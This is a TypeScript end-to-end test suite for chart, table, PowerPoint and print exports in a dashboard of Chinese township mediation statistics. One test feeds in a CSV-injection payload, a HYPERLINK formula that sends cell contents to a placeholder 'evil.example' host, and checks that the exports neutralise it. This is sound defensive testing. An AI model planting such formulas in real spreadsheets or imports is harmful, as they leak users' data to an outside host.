import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import {
  type AppSession,
  expectClean,
  launch,
  openApp,
  outputPath,
  shownView,
  waitForCharts,
} from './harness.ts';

let session: AppSession | undefined;
afterEach(async () => {
  await session?.close();
  session = undefined;
});

const RANKING_2021 = '?view=ranking&year=2021&indicator=mediation_success_rate';
const RANKING_TITLE = '2021年调解成功率排名';

async function download(page: Page, click: () => Promise<void>): Promise<{ name: string; bytes: Buffer }> {
  const waiting = page.waitForEvent('download', { timeout: 90_000 });
  await click();
  const file = await waiting;
  return { name: file.suggestedFilename(), bytes: readFileSync((await file.path()) ?? '') };
}

/** A PNG's size from its IHDR chunk. */
function pngSize(bytes: Buffer): { width: number; height: number } {
  expect([...bytes.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  expect(bytes.subarray(12, 16).toString('ascii')).toBe('IHDR');
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

/** Decodes a PNG in the page and counts what it draws: colours, non-white share, transparency. */
async function pngPixels(page: Page, bytes: Buffer) {
  return page.evaluate(async (base64) => {
    const image = new Image();
    image.src = `data:image/png;base64,${base64}`;
    await image.decode();
    const canvas = document.createElement('canvas');
    canvas.width = image.naturalWidth;
    canvas.height = image.naturalHeight;
    const context = canvas.getContext('2d');
    if (!context) throw new Error('no 2d context');
    context.drawImage(image, 0, 0);
    const data = context.getImageData(0, 0, canvas.width, canvas.height).data;
    const colours = new Set<number>();
    let samples = 0;
    let nonWhite = 0;
    let transparent = 0;
    for (let i = 0; i < data.length; i += 4 * 5) {
      const [r = 0, g = 0, b = 0, a = 0] = [data[i], data[i + 1], data[i + 2], data[i + 3]];
      samples += 1;
      colours.add(((r >> 3) << 10) | ((g >> 3) << 5) | (b >> 3));
      if (r < 245 || g < 245 || b < 245) nonWhite += 1;
      if (a < 255) transparent += 1;
    }
    return {
      colours: colours.size,
      nonWhite: nonWhite / samples,
      transparent,
      corner: [...data.slice(0, 4)],
    };
  }, bytes.toString('base64'));
}

/** The chart's CSS size, as ECharts draws it on screen. */
async function chartSize(page: Page): Promise<{ width: number; height: number }> {
  return shownView(page)
    .locator('.chart-figure .chart')
    .first()
    .evaluate((element) => ({ width: element.clientWidth, height: element.clientHeight }));
}

/** The first sheet of an exported workbook, as Excel would open it. */
async function firstSheet(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(
    bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length) as ArrayBuffer,
  );
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

function toolbar(page: Page) {
  return page.getByRole('toolbar', { name: '导出图表' });
}

async function openRanking(search = RANKING_2021): Promise<Page> {
  session = await openApp(search);
  const { page } = session;
  await waitForCharts(page, 1);
  await page.getByRole('img', { name: RANKING_TITLE }).waitFor({ timeout: 60_000 });
  return page;
}

/** Opens a view by its button and waits until its chart is drawn. */
async function openView(page: Page, button: string, title: string): Promise<void> {
  await page.getByRole('button', { name: button, exact: true }).click();
  await page.getByRole('img', { name: title }).waitFor({ timeout: 60_000 });
  await waitForCharts(page, 1);
}

describe('exports for meetings, on the sample district', () => {
  it('a chart as PNG at 2× and 3× its CSS size on white, as SVG with its text, and copied as an image', async () => {
    const page = await openRanking();
    const size = await chartSize(page);
    expect(size.width).toBeGreaterThan(600);

    for (const ratio of [2, 3]) {
      const png = await download(page, () =>
        toolbar(page)
          .getByRole('button', { name: `下载 PNG（${ratio}倍）` })
          .click(),
      );
      expect(png.name).toBe(ratio === 2 ? `${RANKING_TITLE}.png` : `${RANKING_TITLE}_${ratio}倍.png`);
      expect(pngSize(png.bytes)).toEqual({ width: size.width * ratio, height: size.height * ratio });
      const pixels = await pngPixels(page, png.bytes);
      // White background, opaque; bars, text and lines in many colours, not a blank picture.
      expect(pixels.corner).toEqual([255, 255, 255, 255]);
      expect(pixels.transparent).toBe(0);
      expect(pixels.colours).toBeGreaterThan(30);
      expect(pixels.nonWhite).toBeGreaterThan(0.03);
      writeFileSync(outputPath(`exports-ranking-2021-${ratio}x.png`), png.bytes);
    }

    const svg = await download(page, () =>
      toolbar(page).getByRole('button', { name: '下载 SVG（矢量图）' }).click(),
    );
    expect(svg.name).toBe(`${RANKING_TITLE}.svg`);
    const text = svg.bytes.toString('utf8');
    expect(text.startsWith('<svg')).toBe(true);
    // Township names, title, source and date are text, not paths.
    expect(text).toMatch(/<text[^>]*>[^<]*宝龙镇[^<]*<\/text>/);
    expect(text).toMatch(new RegExp(`<text[^>]*>${RANKING_TITLE}</text>`));
    expect(text).toMatch(/<text[^>]*>数据来源：各镇街年度法治政府建设报告（\d+ 个文件）<\/text>/);
    const today = new Date();
    expect(text).toContain(`制图日期：${today.getFullYear()}年${today.getMonth() + 1}月${today.getDate()}日`);
    // The bundled font's subsets for the text travel inside the SVG.
    expect(text).toContain("@font-face{font-family:'Noto Sans SC'");
    writeFileSync(outputPath('exports-ranking-2021.svg'), svg.bytes);

    await session?.context.grantPermissions(['clipboard-read', 'clipboard-write'], {
      origin: new URL(session.baseUrl).origin,
    });
    await toolbar(page).getByRole('button', { name: '复制图片' }).click();
    await expect
      .poll(() => toolbar(page).getByRole('status').innerText(), { timeout: 60_000 })
      .toBe('图片已复制，可直接粘贴到 PPT 或 Word。');
    const copied = await page.evaluate(async () => {
      const [item] = await navigator.clipboard.read();
      if (!item) return null;
      const blob = await item.getType('image/png');
      const bitmap = await createImageBitmap(blob);
      return { types: item.types, width: bitmap.width, height: bitmap.height };
    });
    expect(copied).toEqual({ types: ['image/png'], width: size.width * 2, height: size.height * 2 });
    expectClean(session as AppSession);
  });

  it("a chart's table as CSV (BOM, raw numbers) matching the table on screen, and the comparison table as XLSX", async () => {
    const page = await openRanking();
    await shownView(page).getByText('以表格查看图中数据').click();
    const shown = await page
      .locator('.data-table tbody tr')
      .evaluateAll((rows) =>
        rows.map((row) => [...row.querySelectorAll('th, td')].map((cell) => (cell.textContent ?? '').trim())),
      );
    expect(shown.length).toBeGreaterThan(15);
    const csv = await download(page, () =>
      shownView(page).locator('.data-table').getByRole('button', { name: '导出 CSV' }).click(),
    );
    expect(csv.name).toBe(`${RANKING_TITLE}_数据表.csv`);
    expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(csv.bytes.toString('utf8').slice(1), { skipEmptyLines: true }).data;
    const [header, ...rows] = parsed;
    expect(header?.slice(0, 3)).toEqual(['镇街', '排名', '调解成功率（%）']);
    const valueAt = header?.indexOf('调解成功率（%）') ?? -1;
    const approxAt = header?.indexOf('调解成功率（%）·约数') ?? -1;
    expect(rows).toHaveLength(shown.length);
    for (const [index, row] of rows.entries()) {
      const screen = shown[index] ?? [];
      expect(row[0]).toBe(screen[0]);
      expect(row[1]).toBe(screen[1]);
      // Unformatted in the file, one decimal and % on screen; ≈ there is the flag column here.
      expect(row[valueAt]).toMatch(/^\d+(\.\d+)?$/);
      const approx = approxAt >= 0 && row[approxAt] === '约数';
      expect(`${approx ? '≈' : ''}${Number(row[valueAt]).toFixed(1)}%`).toBe(screen[2]);
    }
    const baolong = rows.find((row) => row[0] === '宝龙镇');
    expect(Number(baolong?.[valueAt])).toBeCloseTo(9200 / 94, 6);

    // The comparison table of 2021: numbers are numbers in Excel, 宝龙镇 mediated 94 disputes.
    await page.goto(new URL('?view=table&year=2021', session?.baseUrl).toString());
    await page.getByRole('row', { name: /^宝龙镇/ }).waitFor({ timeout: 60_000 });
    const xlsx = await download(page, () => page.getByRole('button', { name: '导出 Excel' }).click());
    expect(xlsx.name).toBe('2021年镇街对比表.xlsx');
    const sheet = await firstSheet(xlsx.bytes);
    expect(sheet.views[0]?.state).toBe('frozen');
    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    expect(headers[0]).toBe('镇街');
    const mediated = headers.indexOf('调解纠纷（件）') + 1;
    const rate = headers.indexOf('调解成功率（%）') + 1;
    const leaflets = headers.indexOf('发放宣传资料（份）') + 1;
    expect(mediated).toBeGreaterThan(1);
    expect(rate).toBeGreaterThan(1);
    let baolongRow = 0;
    let numbers = 0;
    sheet.eachRow((row, index) => {
      if (index === 1) return;
      if (row.getCell(1).value === '宝龙镇') baolongRow = index;
      headers.forEach((h, i) => {
        const value = row.getCell(i + 1).value;
        if (i === 0 || h.endsWith('·约数') || value === null) return;
        expect(typeof value).toBe('number');
        numbers += 1;
      });
    });
    expect(numbers).toBeGreaterThan(100);
    expect(sheet.getRow(baolongRow).getCell(mediated).value).toBe(94);
    expect(sheet.getRow(baolongRow).getCell(rate).value as number).toBeCloseTo(9200 / 94, 6);
    // 6000余: the number, flagged approximate beside it.
    expect(sheet.getRow(baolongRow).getCell(leaflets).value).toBe(6000);
    expect(sheet.getRow(baolongRow).getCell(leaflets + 1).value).toBe('约数');
    expect((sheet.getColumn(1).width ?? 0) >= 8).toBe(true);

    const tableCsv = await download(page, () => page.getByRole('button', { name: '导出 CSV' }).click());
    expect(tableCsv.name).toBe('2021年镇街对比表.csv');
    const table = Papa.parse<string[]>(tableCsv.bytes.toString('utf8').slice(1), {
      skipEmptyLines: true,
    }).data;
    const row = table.find((r) => r[0] === '宝龙镇') ?? [];
    expect(row[(table[0] ?? []).indexOf('调解纠纷（件）')]).toBe('94');
    expectClean(session as AppSession);
  });

  it('the meeting pack: charts collected across views, reordered, one PowerPoint, and a print layout', async () => {
    const page = await openRanking();
    // Nothing of pptxgenjs or exceljs is fetched to show the dashboard.
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
    const rankingSize = await chartSize(page);

    await openView(page, '趋势', '调解成功率：各镇街历年变化');
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();

    await openView(page, '热力图', '调解成功率：各镇街历年热力图');
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();

    await page.getByRole('button', { name: '镇街画像', exact: true }).click();
    await page.getByLabel('选择镇街').selectOption({ label: '宝龙镇' });
    await page.getByRole('img', { name: '宝龙镇：各项指标历年变化与排名' }).waitFor({ timeout: 60_000 });
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();

    // The basket survived three changes of view; order it: heatmap up, profile out.
    const basket = page.locator('details.meeting-basket');
    await basket.locator('summary').click();
    expect(await basket.locator('summary').innerText()).toBe('汇报材料（4 张图）');
    await basket.getByRole('button', { name: '上移：调解成功率：各镇街历年热力图' }).click();
    await basket.getByRole('button', { name: '移除：宝龙镇：各项指标历年变化与排名' }).click();
    const order = ['2021年调解成功率排名', '调解成功率：各镇街历年热力图', '调解成功率：各镇街历年变化'];
    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual(order);
    expect(requested.filter((url) => /pptxgen|exceljs|write-pptx|write-table-xlsx/.test(url))).toEqual([]);

    const pptx = await download(page, () => basket.getByRole('button', { name: '下载 PowerPoint' }).click());
    expect(pptx.name).toBe('汇报材料_2021年.pptx');
    expect(requested.some((url) => /pptxgen/.test(url))).toBe(true);
    writeFileSync(outputPath('exports-meeting-pack.pptx'), pptx.bytes);
    const zip = await JSZip.loadAsync(pptx.bytes);
    const slideNames = Object.keys(zip.files)
      .filter((name) => /^ppt\/slides\/slide\d+\.xml$/.test(name))
      .sort((a, b) => Number(/(\d+)\.xml$/.exec(a)?.[1]) - Number(/(\d+)\.xml$/.exec(b)?.[1]));
    // Title slide, three charts, three appendix tables (23 townships fit on one slide each).
    expect(slideNames).toHaveLength(7);
    const slides = await Promise.all(slideNames.map((name) => zip.file(name)?.async('string') ?? ''));
    expect(slides[0]).toContain('2021年度镇街法治政府建设指标汇报材料');
    expect(slides[0]).toContain('重庆市潼南区');
    for (const [index, title] of order.entries()) {
      const slide = slides[index + 1] ?? '';
      expect(slide).toContain(`<a:t>${title}</a:t>`);
      expect(slide).toContain('<p:pic>');
      expect(slide).toMatch(/最高：/);
      const rels = (await zip.file(`ppt/slides/_rels/slide${index + 2}.xml.rels`)?.async('string')) ?? '';
      const media = /Target="\.\.\/media\/([^"]+)"/.exec(rels)?.[1] ?? '';
      const image = Buffer.from((await zip.file(`ppt/media/${media}`)?.async('uint8array')) ?? []);
      const { width } = pngSize(image);
      if (index === 0)
        expect(pngSize(image)).toEqual({ width: rankingSize.width * 2, height: rankingSize.height * 2 });
      else expect(width).toBeGreaterThan(1000);
      expect(slides[index + 4]).toContain(`附表：${title}`);
    }
    expect(slides[4]).toContain('宝龙镇');

    await basket.getByRole('button', { name: '打印版式（存为 PDF）' }).click();
    const layout = page.getByRole('dialog', { name: '打印版式' });
    await expect.poll(() => layout.getAttribute('data-ready'), { timeout: 90_000 }).toBe('true');
    expect(await layout.locator('.print-page').count()).toBe(3);
    expect(await layout.locator('.print-page img').first().getAttribute('alt')).toBe(order[0]);
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('#root').isVisible()).toBe(false);
    expect(await layout.locator('.print-toolbar').isVisible()).toBe(false);
    expect(await layout.locator('.print-page').nth(2).isVisible()).toBe(true);
    await page.screenshot({ path: outputPath('exports-print-layout.png'), fullPage: true });
    const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
    writeFileSync(outputPath('exports-print-layout.pdf'), pdf);
    // One chart per A4 landscape page: three pages of 842 × 595 pt.
    expect(pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g)).toHaveLength(3);
    expect(pdf.toString('latin1')).toMatch(/\/MediaBox\s*\[\s*0 0 84[12]\.\d+ 59[45]\.\d+\s*\]/);
    await page.emulateMedia({ media: 'screen' });
    await layout.getByRole('button', { name: '关闭打印版式' }).click();
    expect(await layout.count()).toBe(0);
    expectClean(session as AppSession);
  });

  it('the meeting pack outlives a reload: the same charts in the same order, at their width, in the PowerPoint', async () => {
    const page = await openRanking();
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
    const rankingSize = await chartSize(page);
    await openView(page, '趋势', '调解成功率：各镇街历年变化');
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
    const basket = page.locator('details.meeting-basket');
    await basket.locator('summary').click();
    await basket.getByRole('button', { name: '上移：调解成功率：各镇街历年变化' }).click();
    const order = ['调解成功率：各镇街历年变化', RANKING_TITLE];
    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual(order);
    expect(await basket.locator('.hint').innerText()).toContain('刷新、关闭或重新打开页面后仍在');

    // Nothing asks before the reload: the pack is kept.
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.type());
      void dialog.dismiss();
    });
    await page.reload();
    await waitForCharts(page, 1);
    await expect.poll(() => basket.locator('summary').innerText()).toBe('汇报材料（2 张图）');
    await basket.locator('summary').click();
    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual(order);
    expect(dialogs).toEqual([]);

    const pptx = await download(page, () => basket.getByRole('button', { name: '下载 PowerPoint' }).click());
    const zip = await JSZip.loadAsync(pptx.bytes);
    const slide = async (n: number) => (await zip.file(`ppt/slides/slide${n}.xml`)?.async('string')) ?? '';
    expect(await slide(2)).toContain(`<a:t>${order[0]}</a:t>`);
    expect(await slide(3)).toContain(`<a:t>${RANKING_TITLE}</a:t>`);
    expect(await slide(3)).toMatch(/最高：/);
    // The ranking is drawn at the width it had when it was added, before the reload.
    const rels = (await zip.file('ppt/slides/_rels/slide3.xml.rels')?.async('string')) ?? '';
    const media = /Target="\.\.\/media\/([^"]+)"/.exec(rels)?.[1] ?? '';
    const image = Buffer.from((await zip.file(`ppt/media/${media}`)?.async('uint8array')) ?? []);
    expect(pngSize(image)).toEqual({ width: rankingSize.width * 2, height: rankingSize.height * 2 });

    await basket.getByRole('button', { name: '清空' }).click();
    await page.reload();
    await waitForCharts(page, 1);
    expect(await basket.locator('summary').innerText()).toBe('汇报材料（0 张图）');
    expectClean(session as AppSession);
  });

  it('a chart in the pack follows the data: after a corrected file, the PowerPoint has the new figure', async () => {
    const page = await openRanking();
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
    const baolongCells = async () => {
      const basket = page.locator('details.meeting-basket');
      if ((await basket.getAttribute('open')) === null) await basket.locator('summary').click();
      const pptx = await download(page, () =>
        basket.getByRole('button', { name: '下载 PowerPoint' }).click(),
      );
      const zip = await JSZip.loadAsync(pptx.bytes);
      const appendix = (await zip.file('ppt/slides/slide3.xml')?.async('string')) ?? '';
      const row = /<a:tr\b(?:(?!<\/a:tr>)[\s\S])*?宝龙镇[\s\S]*?<\/a:tr>/.exec(appendix)?.[0] ?? '';
      return [...row.matchAll(/<a:t>([^<]*)<\/a:t>/g)].map((m) => m[1]);
    };
    // The report's 92 of 94 settled.
    expect((await baolongCells())[2]).toBe('97.9');

    await page.getByRole('button', { name: '导入数据' }).click();
    await page.getByLabel('选择文件…').setInputFiles([
      {
        name: '宝龙镇2021年更正.csv',
        mimeType: 'text/csv',
        buffer: Buffer.from('镇街,年度,指标,数值\r\n宝龙镇,2021,调解纠纷,96\r\n'),
      },
    ]);
    const correction = page.getByRole('article', { name: '宝龙镇2021年更正.csv' });
    await correction.getByRole('button', { name: '确认导入' }).click();
    await expect.poll(() => correction.innerText(), { timeout: 60_000 }).toContain('已导入 1 个数值');
    await page.getByRole('button', { name: '收起导入' }).click();

    // 92 of 96 now, in the pack as on screen.
    await expect.poll(baolongCells, { timeout: 60_000 }).toContain('95.8');
    expect((await baolongCells())[2]).toBe('95.8');
    expectClean(session as AppSession);
  });

  it('a second tab shows the same pack and follows what the first adds', async () => {
    const context = await launch();
    const first = await openApp(RANKING_2021, context);
    // Both tabs are the context's: closing it closes them.
    session = { ...first, close: () => context.close() };
    await waitForCharts(first.page, 1);
    await first.page.getByRole('img', { name: RANKING_TITLE }).waitFor({ timeout: 60_000 });
    await toolbar(first.page).getByRole('button', { name: '加入汇报材料' }).click();

    // The second tab reads a copy of the data; the pack is the browser's, so it is there too.
    const second = await openApp(RANKING_2021, context);
    const { page } = second;
    await page.getByRole('button', { name: '只读查看' }).click({ timeout: 60_000 });
    await waitForCharts(page, 1);
    const basket = page.locator('details.meeting-basket');
    await expect.poll(() => basket.locator('summary').innerText()).toBe('汇报材料（1 张图）');

    await openView(first.page, '趋势', '调解成功率：各镇街历年变化');
    await toolbar(first.page).getByRole('button', { name: '加入汇报材料' }).click();
    await expect.poll(() => basket.locator('summary').innerText()).toBe('汇报材料（2 张图）');
    await basket.locator('summary').click();
    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual([
      RANKING_TITLE,
      '调解成功率：各镇街历年变化',
    ]);
    expectClean(first);
    expectClean(second);
  });

  it('where the browser refuses to keep the pack, it says so and a reload asks first', async () => {
    session = await openApp();
    const { page } = session;
    // Local storage full, as in a browser profile at its quota.
    await page.addInitScript(() => {
      Storage.prototype.setItem = () => {
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      };
    });
    await page.goto(new URL(RANKING_2021, session.baseUrl).toString());
    await waitForCharts(page, 1);
    await page.getByRole('img', { name: RANKING_TITLE }).waitFor({ timeout: 60_000 });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.type());
      void dialog.dismiss();
    });
    await toolbar(page).getByRole('button', { name: '加入汇报材料' }).click();
    const basket = page.locator('details.meeting-basket');
    await basket.locator('summary').click();
    expect(await basket.locator('.hint').innerText()).toContain('浏览器无法保存汇报材料');

    // Staying on the page keeps the chart in the pack.
    await page.reload({ timeout: 3_000 }).catch(() => undefined);
    expect(dialogs).toEqual(['beforeunload']);
    expect(await basket.locator('summary').innerText()).toBe('汇报材料（1 张图）');
    expect(await basket.locator('.basket-title').allInnerTexts()).toEqual([RANKING_TITLE]);
    expectClean(session);
  });

  it('a hostile cell from an imported file comes out neutralised in CSV and XLSX, never as a formula', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
    const csv = [
      '镇街,年度,指标,数值,单位',
      `宝龙镇,2021,"${hostile.replaceAll('"', '""')}",5,次`,
      '宝龙镇,2021,调解纠纷,94,件',
    ].join('\r\n');
    session = await openApp('?view=table&year=2021');
    const { page } = session;
    await page.locator('.page-tabs, .empty-state').first().waitFor({ timeout: 60_000 });
    await page.getByRole('button', { name: '导入数据' }).click();
    await page
      .getByLabel('选择文件…')
      .setInputFiles([{ name: '恶意单元格.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) }]);
    const card = page.getByRole('article', { name: '恶意单元格.csv' });
    await card.getByRole('button', { name: '确认导入' }).click();
    await expect.poll(() => card.innerText(), { timeout: 60_000 }).toMatch(/已导入 2 个数值/);
    // On screen it is text, never markup or a link.
    await expect
      .poll(() => page.locator('.year-table thead').innerText(), { timeout: 30_000 })
      .toContain('=HYPERLINK');
    expect(await page.locator('.year-table a').count()).toBe(0);

    const tableCsv = await download(page, () => page.getByRole('button', { name: '导出 CSV' }).click());
    const rows = Papa.parse<string[]>(tableCsv.bytes.toString('utf8').slice(1), {
      skipEmptyLines: true,
    }).data;
    const header = rows[0] ?? [];
    const column = header.findIndex((h) => h.includes('HYPERLINK'));
    expect(header[column]).toMatch(/^'=HYPERLINK/);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(rows.find((r) => r[0] === '宝龙镇')?.[column]).toBe('5');

    const xlsx = await download(page, () => page.getByRole('button', { name: '导出 Excel' }).click());
    const sheet = await firstSheet(xlsx.bytes);
    let formulas = 0;
    let hostileHeader: unknown = null;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
        if (String(cell.value).includes('HYPERLINK')) hostileHeader = cell.value;
      }),
    );
    expect(formulas).toBe(0);
    expect(String(hostileHeader)).toMatch(/^'=HYPERLINK/);
    expectClean(session);
  });

  it('the export libraries are not in the first page load', async () => {
    const dist = process.env.E2E_DIST ?? 'dist';
    const html = readFileSync(join(dist, 'index.html'), 'utf8');
    // The entry script and every chunk the page preloads: what the first page load fetches.
    const first = [...html.matchAll(/(?:src|href)="\.\/(assets\/[^"]+\.js)"/g)].map((m) => m[1] ?? '');
    expect(first.some((path) => /main-/.test(path))).toBe(true);
    for (const path of first) {
      expect(path).not.toMatch(/pptxgen|exceljs|write-pptx|write-table-xlsx/);
      const code = readFileSync(join(dist, path), 'utf8');
      expect(code).not.toMatch(/PptxGenJS|pptxgenjs/);
      expect(code).not.toMatch(/ExcelJS|exceljs/);
    }
    // They are chunks of their own, loaded by the export.
    const assets = readdirSync(join(dist, 'assets'));
    expect(assets.some((name) => /^pptxgen.*\.js$/.test(name))).toBe(true);
    expect(assets.some((name) => /^exceljs.*\.js$/.test(name))).toBe(true);

    const context = await launch();
    const requested: string[] = [];
    context.on('request', (request) => requested.push(request.url()));
    session = await openApp(RANKING_2021, context);
    await waitForCharts(session.page, 1);
    expect(requested.length).toBeGreaterThan(0);
    expect(requested.filter((url) => /pptxgen|exceljs|write-pptx|write-table-xlsx/.test(url))).toEqual([]);
    expectClean(session);
    await context.close();
  });
});
